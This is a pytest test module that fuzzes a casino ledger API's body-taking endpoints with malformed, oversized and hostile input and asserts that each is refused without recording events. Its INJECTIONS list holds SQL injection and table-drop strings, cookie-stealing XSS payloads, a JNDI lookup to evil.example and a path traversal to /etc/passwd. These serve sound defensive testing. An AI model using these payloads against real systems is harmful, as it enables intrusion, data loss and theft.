"""A corpus of hostile input against every operation that takes a body: malformed JSON, huge numbers, floats
and exponents for money, NaN, deep nesting, 10 MB bodies, wrong content types, and unicode and SQL/HTML
injection strings in every field. Each gets a 4xx envelope and records nothing; the service stays healthy.

A field whose documented schema admits the value (free text such as a promotion's name, an opaque caller's
id such as a PSP transaction id) may accept an injection string as the text it is: then the OpenAPI document
must say the value is valid, and the text is stored and given back unchanged. Every other value is refused."""

from __future__ import annotations

import json
import uuid
from typing import Any, Callable, Iterator

import psycopg
import pytest
from jsonschema import Draft202012Validator

from app import create_app
from app.config import Settings
from tests.api.helpers import define, funded_session, register
from tests.support import ADMIN, API_KEYS, NO_SCATTER, FakeClock, ScriptedStops, award_json, event_count, unique

INJECTIONS = [
    "' OR '1'='1", "'; DROP TABLE spinledger_events; --", '" OR ""="', "1; SELECT pg_sleep(5)", "admin'--",
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "../../../../etc/passwd", "\\x00",
]
UNICODE = ["Zoë ✓ 漢字 🎰", "\u202eRTL override", "\ufeffBOM", "e\u0301", "ＣＡＤ", "😀" * 40, "\u0000", "line\nbreak", "tab\there"]
# Raw JSON tokens, put where a field's value goes: numbers no parser should trust, and values of the wrong type
# (not null, which a field that may be left out legitimately takes).
RAW_VALUES = [
    "1e309", "-1e309", "1e-400", "1" + "0" * 5000, "12345678901234567890123456789", "NaN", "Infinity", "-Infinity",
    "0.1", "1.005", "-0", "1E2", "-5", "0", "true", "[]", "{}", '"\\ud800"', '"' + "a" * 70_000 + '"',
]
NOWHERE = "http://127.0.0.1:9/hooks"  # the discard port: nothing listens there
Builder = Callable[[], tuple[str, str, dict[str, Any], dict[str, str]]]  # method, path, a valid body, headers
TEMPLATES = {  # each operation's path in the OpenAPI document
    "put player": "/api/v1/players/{player_id}", "self-exclusion": "/api/v1/players/{player_id}/self-exclusion",
    "deposit": "/api/v1/players/{player_id}/deposits", "withdrawal": "/api/v1/players/{player_id}/withdrawals",
    "put promotion": "/api/v1/promotions/{promo_id}", "end promotion": "/api/v1/promotions/{promo_id}/end",
    "award": "/api/v1/awards", "batch": "/api/v1/awards/batch", "cancel": "/api/v1/awards/{award_id}/cancel",
    "session": "/api/v1/sessions", "spin": "/api/v1/game/spin", "bonus spin": "/api/v1/game/bonus/spin",
    "reconciliation": "/api/v1/reconciliation/runs",
    "subscribe": "/api/v1/webhooks", "redeliver": "/api/v1/webhooks/{subscription_id}/redeliver",
}


@pytest.fixture(scope="module")
def stops() -> ScriptedStops:
    return ScriptedStops(seed="hostile-input")


@pytest.fixture(scope="module")
def web(database_url: str, stops: ScriptedStops) -> Iterator[Any]:
    flask_app = create_app(Settings(database_url=database_url, api_keys=API_KEYS), clock=FakeClock(), random_bytes=stops)
    yield flask_app.test_client()
    flask_app.extensions["spinledger"].close()


@pytest.fixture(scope="module")
def operations(web) -> Iterator[dict[str, Builder]]:  # type: ignore[no-untyped-def]
    """Each operation that takes a body, with a builder of a valid request to spoil (a fresh target where
    an accepted request would change what the next one meets)."""
    player_id, session = funded_session(web, amount="500.00")
    promo_id = define(web)

    def award() -> str:
        response = web.post("/api/v1/awards", json=award_json(player_id, promo_id), headers=ADMIN)
        assert response.status_code == 201, response.json
        return response.json["award_id"]

    made = web.post("/api/v1/webhooks", json={"url": NOWHERE, "event_types": ["FreeSpinsAwarded"]}, headers=ADMIN)
    assert made.status_code == 201, made.json
    subscription = made.json["id"]

    def spin_headers() -> dict[str, str]:
        return {**session, "X-Request-Id": str(uuid.uuid4())}

    yield {
        "put player": lambda: ("put", f"/api/v1/players/{unique('p')}", {"region": "CA-ON", "birth_date": "1990-04-01", "currency": "CAD"}, ADMIN),
        "self-exclusion": lambda: ("post", f"/api/v1/players/{register(web)}/self-exclusion", {"period": "6m"}, ADMIN),
        "deposit": lambda: ("post", f"/api/v1/players/{player_id}/deposits", {"transaction_id": unique("tx"), "amount": "5.00", "currency": "CAD"}, ADMIN),
        "withdrawal": lambda: ("post", f"/api/v1/players/{player_id}/withdrawals", {"transaction_id": unique("tx"), "amount": "1.00", "currency": "CAD"}, ADMIN),
        "put promotion": lambda: ("put", f"/api/v1/promotions/{unique('promo')}", promotion_terms(web), ADMIN),
        "end promotion": lambda: ("post", f"/api/v1/promotions/{define(web)}/end", {"reason": "campaign over"}, ADMIN),
        "award": lambda: ("post", "/api/v1/awards", award_json(player_id, promo_id), ADMIN),
        "batch": lambda: ("post", "/api/v1/awards/batch", {"awards": [award_json(player_id, promo_id)]}, ADMIN),
        "cancel": lambda: ("post", f"/api/v1/awards/{award()}/cancel", {"reason": "withdrawn"}, ADMIN),
        "session": lambda: ("post", "/api/v1/sessions", {"player_id": player_id}, ADMIN),
        "spin": lambda: ("post", "/api/v1/game/spin", {"betAmount": "1.00", "currency": "CAD"}, spin_headers()),
        "bonus spin": lambda: ("post", "/api/v1/game/bonus/spin", {"blockId": str(uuid.uuid4())}, spin_headers()),
        "reconciliation": lambda: ("post", "/api/v1/reconciliation/runs", {"as_of": "2026-11-18T10:00:00Z"}, {"Authorization": "Bearer test-finance-key"}),
        "subscribe": lambda: ("post", "/api/v1/webhooks", {"url": NOWHERE, "event_types": ["FreeSpinsAwarded"], "description": "crm"}, ADMIN),
        "redeliver": lambda: ("post", f"/api/v1/webhooks/{subscription}/redeliver", {"delivery_ids": [str(uuid.uuid4())]}, ADMIN),
    }
    # The subscriptions made here (and by the corpus, where it was valid) would outlive the module in the
    # shared database, where later tests run a worker: none is left to send to.
    for made in web.get("/api/v1/webhooks?limit=1000", headers=ADMIN).json["data"]:
        web.delete(f"/api/v1/webhooks/{made['id']}", headers=ADMIN)


def promotion_terms(web) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    promo_id = define(web)
    return {k: v for k, v in web.get(f"/api/v1/promotions/{promo_id}", headers=ADMIN).json.items()
            if k not in ("promo_id", "spins_reserved", "budget_left", "ended_at", "created_at", "updated_at")}


@pytest.fixture
def events(db: psycopg.Connection) -> Callable[[], int]:
    return lambda: event_count(db)


def send(web, method: str, path: str, raw: bytes, headers: dict[str, str], content_type: str | None = "application/json"):  # type: ignore[no-untyped-def]
    return web.open(path, method=method.upper(), data=raw, headers=headers, content_type=content_type)


def assert_refused(response, where: str) -> None:  # type: ignore[no-untyped-def]
    assert 400 <= response.status_code < 500, (where, response.status_code, response.get_data(as_text=True)[:300])
    assert response.mimetype == "application/json", where
    error = response.json.get("error") or {}
    assert error.get("code") or response.json.get("errorCode"), (where, response.json)


def spoiled(body: dict[str, Any], field: str, raw_value: str) -> bytes:
    marker = f"__hostile_{uuid.uuid4().hex}__"
    return json.dumps({**body, field: marker}).replace(json.dumps(marker), raw_value).encode()


def documented(document: dict[str, Any], node: Any) -> Any:
    """``node`` with every ``$ref`` of the document replaced by what it points to."""
    if isinstance(node, dict):
        if "$ref" in node:
            target: Any = document
            for part in node["$ref"].removeprefix("#/").split("/"):
                target = target[part]
            return documented(document, target)
        return {key: documented(document, value) for key, value in node.items()}
    if isinstance(node, list):
        return [documented(document, item) for item in node]
    return node


def field_schemas(document: dict[str, Any], method: str, template: str) -> dict[str, Any]:
    body = document["paths"][template][method]["requestBody"]["content"]["application/json"]["schema"]
    return documented(document, body)["properties"]


def test_every_field_of_every_operation_refuses_hostile_values_and_records_nothing(web, operations, events, stops):
    document = web.get("/openapi.json").json
    tried = accepted = 0
    for name, build in operations.items():
        method, _, base, _ = build()
        schemas = field_schemas(document, method, TEMPLATES[name])
        assert set(base) <= set(schemas), name
        for field in base:
            # ... and the field's own valid value with a newline after it (a pattern checked with ``$`` lets it by)
            trailing = [json.dumps(base[field] + "\n")] if isinstance(base[field], str) else []
            for raw_value in RAW_VALUES + [json.dumps(s) for s in INJECTIONS + UNICODE] + trailing:
                method, path, body, headers = build()
                stops.plan(NO_SCATTER)
                before = events()
                response = send(web, method, path, spoiled(body, field, raw_value), headers)
                where = f"{name}: {field} = {raw_value[:40]}"
                if response.status_code < 300:
                    value = json.loads(raw_value)
                    # Text, or a flag's own true or false: nothing else a hostile token can be is a valid value.
                    admissible = isinstance(value, str) or (isinstance(value, bool) and schemas[field].get("type") == "boolean")
                    assert admissible and Draft202012Validator(schemas[field]).is_valid(value), where
                    assert response.json.get(field, value) == value, where  # given back unchanged, where given back
                    accepted += 1
                else:
                    assert_refused(response, where)
                    assert events() == before, f"{where} recorded an event"
                tried += 1
    assert tried > 1_500 and accepted < tried / 10


def test_free_text_holding_injection_strings_is_stored_and_given_back_unchanged(web):
    for text in INJECTIONS + UNICODE[:6]:
        promo_id = unique("promo")
        body = {**promotion_terms(web), "name": text}
        assert web.put(f"/api/v1/promotions/{promo_id}", json=body, headers=ADMIN).status_code == 201
        assert web.get(f"/api/v1/promotions/{promo_id}", headers=ADMIN).json["name"] == text


MALFORMED = [
    b"{", b'{"a":}', b"[1, 2", b"nul", b"{'single': 'quotes'}", b'{"a": 1,}', b"\xff\xfe\x00{",
    b'{"a": NaN}', b'{"a": Infinity}', b"[]", b'"a string"', b"null", b"42", b"[" * 100_000 + b"]" * 100_000,
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000, b'{"a": "' + b"\\ud83d" + b'"}', b'{"a": 1, "a": 2}',
]


def test_malformed_deep_and_huge_bodies_and_wrong_content_types_are_refused(web, operations, events):
    for name, build in operations.items():
        method, path, body, headers = build()
        before = events()
        for raw in MALFORMED:
            assert_refused(send(web, method, path, raw, headers), f"{name}: {raw[:30]!r}")
        too_big = send(web, method, path, b'{"a": "' + b"x" * (10 * 1024 * 1024) + b'"}', headers)
        assert_refused(too_big, f"{name}: 10 MB")
        assert too_big.status_code == 413
        valid = json.dumps(body).encode()
        for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", None):
            assert_refused(send(web, method, path, valid, headers, content_type), f"{name}: {content_type}")
        assert events() == before, f"{name} recorded an event"


def test_the_service_is_healthy_after_the_corpus(web, operations):
    assert web.get("/healthz").status_code == 200
    method, path, body, headers = operations["award"]()
    assert send(web, method, path, json.dumps(body).encode(), headers).status_code == 201
